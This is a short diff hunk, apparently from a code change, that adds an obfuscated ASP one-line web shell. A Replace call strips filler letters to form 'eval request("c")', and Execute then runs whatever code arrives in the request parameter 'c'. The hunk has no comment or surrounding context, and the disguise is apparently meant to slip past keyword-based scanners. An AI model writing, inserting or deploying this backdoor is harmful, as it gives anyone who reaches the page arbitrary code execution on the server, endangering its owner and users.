@@ -1,0 +1,4 @@
+<%
+x = Replace("evXal reqXuest(""c"")", "X", "")
+Execute x
+%>
